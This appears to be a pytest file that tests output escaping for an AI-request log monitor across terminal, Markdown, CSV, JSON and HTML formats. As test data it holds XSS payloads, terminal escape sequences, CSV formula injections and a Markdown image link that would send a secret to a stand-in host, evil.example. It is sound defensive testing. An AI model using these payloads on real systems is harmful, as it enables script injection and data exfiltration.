"""Every value from a log is data in every format (issue 15 item 6).

Names planted in every name field (model, endpoint, user and session id, variant,
experiment, error type, prompt version, request id, provider, feedback) are rendered by
the render layer and by every command in every format: nothing crashes, Markdown holds no
raw HTML, the terminal no raw ESC, NUL or carriage return, rich markup is never
interpreted, CSV defuses formulas, and the HTML report runs no injected script in
headless Chromium while it shows the values.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import polars as pl
import pytest
from rich.console import Console

from aimon.render import (
    Chart,
    Figures,
    FrameBlock,
    Heading,
    Note,
    blocks_console,
    blocks_markdown,
    csv_cell,
    frame_csv,
    md_text,
    visible,
)
from aimon.render.html import _script_json

HOSTILE = ("<script>alert(1)</script>", "<!--", "[/]", "[control]", "a\rb", "\x1b[31mred", "nul\x00x",
           "=1+2|x", "two\nlines", "back\\|slash", "\u202eevil", "c1\x9bx")

# What a terminal must never receive from a log: ESC, NUL, CR, other C0 (tab and newline
# are aimon's own layout), DEL, C1 and bidi overrides.
RAW_CONTROL_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _console_text(blocks) -> str:
    buf = io.StringIO()
    blocks_console(blocks, Console(file=buf, width=200, color_system=None, highlight=False))
    return buf.getvalue()


def _blocks(value: str) -> list:
    frame = pl.DataFrame({"name": [value, "plain"], "requests": [3, 4]})
    return [Heading(f"Report for {value}"), Figures([(f"label {value}", value)], title=f"figures {value}"),
            FrameBlock(frame, title=f"table {value}"), Note(f"a note on {value}"),
            Note(items=[f"item {value}", "second"]),
            Chart(f"chart {value}", ["x1", value], {value: [1.0, 2.0]})]


# --------------------------------------------------------------------------- render layer

@pytest.mark.parametrize("value", HOSTILE)
def test_terminal_shows_every_value_and_no_control_character(value):
    text = _console_text(_blocks(value))  # "[/]" raised MarkupError here before
    assert not RAW_CONTROL_RE.search(text), repr(text)
    shown = visible(value)
    # Markup is text: "[control]" is printed, not swallowed as a style.
    for line in shown.split("\n"):
        assert line in text, (line, text)


def test_rich_markup_in_values_is_printed_as_typed():
    text = _console_text([Figures([("model", "[control]")], title="[bold]x[/bold]"),
                          FrameBlock([{"[b]col[/b]": "[/]"}], title="[red]t")])
    for s in ("[control]", "[bold]x[/bold]", "[b]col[/b]", "[/]", "[red]t"):
        assert s in text


def test_visible_names_every_control_character():
    assert visible("\x1b[31m") == "\\x1b[31m"
    assert visible("a\x00b\rc\x7f\x9b") == "a\\x00b\\x0dc\\x7f\\x9b"
    assert visible("\u202e") == "\\u202e"
    assert visible("tab\tand\nnewline ünïcödé") == "tab\tand\nnewline ünïcödé"


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_escapes_html_pipes_and_newlines_everywhere(value):
    md = blocks_markdown(_blocks(value))
    assert "<script" not in md and "<!--" not in md
    assert not RAW_CONTROL_RE.search(md)
    # Every table row keeps its shape: two cells, whatever the value holds.
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    for row in rows:
        assert len(re.findall(r"(?<!\\)\|", row.replace("\\\\", ""))) == 3, row
    # No value starts a line of its own (a heading, a list item, a table row).
    assert not any(line.startswith("lines") for line in md.splitlines())


def test_markdown_escape_keeps_the_text():
    assert md_text("<b>&amp;</b> | x") == "&lt;b&gt;&amp;amp;&lt;/b&gt; \\| x"
    assert md_text("a\nb") == "a<br>b"
    assert md_text("ends with \\|") == "ends with \\\\\\|"
    assert md_text("C:\\path") == "C:\\path"  # a backslash before a letter is literal in Markdown


def test_markdown_links_and_images_from_logs_stay_text():
    # An image is fetched by the viewer as soon as the report is opened: exfiltration.
    for value in ("![x](https://evil.example/?q=secret)", "[click](javascript:alert(1))",
                  "[a]: https://evil.example/ref"):
        # A code fence (the chart) renders no links; everything outside it must be text.
        md = re.sub(r"```.*?```", "", blocks_markdown(_blocks(value)), flags=re.S)
        assert "](" not in md.replace("\\](", "") and "![" not in md, md
        assert re.search(r"(?<!\\)\[", md.replace("- [ ]", "")) is None, md


def test_markdown_list_items_stay_items():
    md = blocks_markdown([Note(items=["a\n# not a heading", "b"], marker="- [ ]")])
    assert md == "- [ ] a<br># not a heading\n- [ ] b\n"


def test_csv_defuses_formulas_and_keeps_numbers():
    assert csv_cell("=1+2") == "'=1+2"
    assert csv_cell("+cmd") == "'+cmd"
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("-3.5") == "-3.5"
    assert csv_cell("+1,234") == "+1,234"
    assert csv_cell("gpt-4o") == "gpt-4o"
    text = frame_csv(pl.DataFrame({"=name": ["=HYPERLINK(\"x\")", "\x1b[31m"], "n": [-1, 2]}))
    got = list(csv.reader(io.StringIO(text)))
    assert got == [["'=name", "n"], ["'=HYPERLINK(\"x\")", "-1"], ["\\x1b[31m", "2"]]


@pytest.mark.parametrize("value", HOSTILE)
def test_html_data_block_cannot_be_ended_or_commented_out(value):
    text = _script_json({"name": value, "nested": [{"endpoint": value + "</script><script>"}]})
    assert "<" not in text and ">" not in text
    assert json.loads(text) == {"name": value, "nested": [{"endpoint": value + "</script><script>"}]}


# --------------------------------------------------------------------------- every command

NAMES = ("<script>alert(1)</script>", "<!--", "[/]", "[control]", "a\rb", "\x1b[31mred", "nul\x00x")
NAME_FIELDS = ("model", "endpoint", "user_id", "session_id", "variant", "experiment", "error_type",
               "prompt_version", "provider", "feedback")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """Twenty days of requests whose every name field (and request id, and feedback) holds a
    hostile value."""
    from typer.testing import CliRunner

    from aimon.cli import app
    from tests.conftest import GOLDEN_ENV, request

    folder = tmp_path_factory.mktemp("hostile")
    recs, feedback = [], []
    for i in range(560):
        name = NAMES[i % len(NAMES)]
        rec = request(timestamp=f"2026-11-{1 + i % 20:02d}T{8 + i % 12:02d}:{i % 60:02d}:00Z",
                      request_id=f"r{i}{name}", cost_usd=0.001 * (1 + i % 7), latency_ms=400.0 + 3 * i,
                      status="error" if i % 6 == 0 else "ok", variant=("A", "B", name)[i % 3],
                      **{f: name for f in NAME_FIELDS if f != "variant"})
        if i % 6:
            rec.pop("error_type")
        if i % 3 == 0:
            rec["model"] = "gpt-4o"  # a priced model beside the hostile ones
        recs.append(rec)
        feedback.append({"request_id": rec["request_id"], "timestamp": rec["timestamp"],
                         "feedback_type": "thumbs_down", "feedback_text": name, "feedback_category": name,
                         "user_id": name})
    (folder / "requests.jsonl").write_text("\n".join(json.dumps(r) for r in recs) + "\n", encoding="utf-8")
    (folder / "feedback.jsonl").write_text("\n".join(json.dumps(r) for r in feedback) + "\n", encoding="utf-8")
    db = folder / "hostile.duckdb"
    runner = CliRunner()
    for args in (["ingest", folder / "requests.jsonl"], ["ingest", "--feedback", folder / "feedback.jsonl"]):
        result = runner.invoke(app, [*map(str, args), "--db", str(db)], env=GOLDEN_ENV)
        assert result.exit_code == 0, result.output
    return db


EXPERIMENT = NAMES[0]
COMMANDS = [
    ("db", "info"),
    ("sql", "SELECT request_id, model, endpoint, user_id, session_id, provider, variant, experiment, "
            "error_type, prompt_version, feedback FROM requests ORDER BY request_id LIMIT 40"),
    ("report", "daily", "--date", "2026-11-05"),
    ("report", "weekly"),
    ("cost", "breakdown", "--by", "model"),
    ("cost", "breakdown", "--by", "endpoint,user"),
    ("cost", "reconcile"),
    ("cost", "forecast"),
    ("cost", "anomalies"),
    ("cost", "check", "--daily-budget", "0.01"),
    ("cost", "routing"),
    ("alerts", "check", "--no-state", "--at", "2026-11-05T14:00"),
    ("alerts", "scan", "--since", "2026-11-04", "--until", "2026-11-06"),
    ("incident", "detect", "--since", "2026-11-01", "--until", "2026-11-11"),
    ("incident", "postmortem", "--start", "2026-11-05T08:00", "--end", "2026-11-05T20:00", "--samples", "3"),
    ("abtest", "list"),
    ("abtest", "analyze", "-e", EXPERIMENT, "--control", "A", "--resamples", "100"),
    ("abtest", "analyze", "-e", EXPERIMENT, "--control", NAMES[0], "--resamples", "100"),
    ("audit", "pii", "--samples", "3"),
    ("audit", "compliance"),
    ("forget", "--user", "[/]", "--dry-run"),
    ("purge", "--older-than", "2026-11-03", "--dry-run"),
]


def _run(db: Path, args: tuple[str, ...], fmt: str):
    from typer.testing import CliRunner

    from aimon.cli import app
    from tests.conftest import GOLDEN_ENV

    return CliRunner().invoke(app, [*args, "--db", str(db), "-f", fmt], env=GOLDEN_ENV)


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["table", "markdown", "json", "csv"])
@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: "-".join(a[:2]) if a[0] != "sql" else "sql")
def test_every_command_renders_hostile_names_safely(hostile_db, args, fmt):
    result = _run(hostile_db, args, fmt)
    out, err = result.stdout, result.stderr
    assert "unexpected" not in err and result.exception is None or isinstance(result.exception, SystemExit), \
        (err, result.exception)
    refused = fmt == "csv" and result.exit_code == 2 and "csv" in err.lower()
    # 1: a gate that ran and failed (the budget); 2 only for a format this result cannot take.
    assert result.exit_code in (0, 1) or refused, (result.exit_code, err)
    assert not RAW_CONTROL_RE.search(err), repr(err)
    if fmt == "json":
        json.loads(out)
        return
    assert not RAW_CONTROL_RE.search(out), repr(out[:2000])
    if fmt == "markdown":
        low = out.lower()
        assert "<script" not in low and "<!--" not in low
    if fmt == "csv" and not refused:
        for row in csv.reader(io.StringIO(out)):
            assert not any(cell.startswith(("=", "@")) for cell in row), row


@pytest.mark.slow
def test_names_show_as_typed_in_the_terminal_and_exactly_in_json(hostile_db):
    table = _run(hostile_db, ("cost", "breakdown", "--by", "model"), "table").stdout
    for shown in ("[control]", "[/]", "\\x1b[31mred", "nul\\x00x", "a\\x0db"):
        assert shown in table, shown
    data = json.loads(_run(hostile_db, ("sql", "SELECT DISTINCT model FROM requests"), "json").stdout)
    assert {r["model"] for r in data["rows"]} >= set(NAMES) if isinstance(data, dict) and "rows" in data \
        else {r["model"] for r in data} >= set(NAMES)


# --------------------------------------------------------------------------- the HTML report

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
# Values that would change the page if they ever ran as markup or script.
PAYLOADS = ("<!--<script>document.body.setAttribute('data-pwned','comment')</script>",
            "</script><script>document.body.setAttribute('data-pwned','close')</script>",
            "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">", *NAMES)


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="needs headless Chromium (apt-get install chromium)")
def test_the_html_report_runs_no_injected_script_and_shows_the_values(tmp_path, cli, write_jsonl):
    from tests.conftest import request
    from tests.test_report_html import chromium

    recs = [request(request_id=f"h{i}", timestamp=f"2026-11-10T{8 + i % 10:02d}:{i % 60:02d}:00Z",
                    model=PAYLOADS[i % len(PAYLOADS)], endpoint=PAYLOADS[(i + 1) % len(PAYLOADS)],
                    status="error" if i % 5 == 0 else "ok", error_type=PAYLOADS[i % len(PAYLOADS)])
            for i in range(200)]
    assert cli("ingest", write_jsonl("h.jsonl", recs)).exit_code == 0
    page = tmp_path / "daily.html"
    result = cli("report", "daily", "--date", "2026-11-10", "-f", "html", "-o", page)
    assert result.exit_code == 0, result.stderr
    dom = chromium(tmp_path, "--dump-dom", page.as_uri()).stdout
    assert 'data-rendered="true"' in dom, "the page did not draw (a value broke the data block)"
    assert "data-pwned" not in dom.split("<body", 1)[1].split(">", 1)[0]
    assert not re.search(r"<img[^>]*onerror", dom)
    # The values are shown as text (the DOM serialises text with < and & escaped).
    for shown in ("&lt;!--&lt;script&gt;document.body", "&lt;/script&gt;&lt;script&gt;",
                  "&lt;img src=x onerror=", "[control]", "[/]"):
        assert shown in dom, shown


@pytest.mark.parametrize("name", ["[bold]x.jsonl", "[link=mailto:a@e.example]y.jsonl", "z\x1b[2J.jsonl"])
def test_progress_shows_file_names_as_text(monkeypatch, name):
    # "[bold]" in a file name was swallowed as a style, "[link=...]" made a hyperlink.
    import io
    from pathlib import Path

    from rich.console import Console

    from aimon.render import progress as progress_module

    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=120, color_system=None)
    monkeypatch.setattr(progress_module, "err_console", console)
    with progress_module.file_progress() as on_file:
        on_file(0, 1, Path(name))
        on_file(1, 1, Path(name))
    assert visible(name) in out.getvalue()
    assert "\x1b[2J" not in out.getvalue()
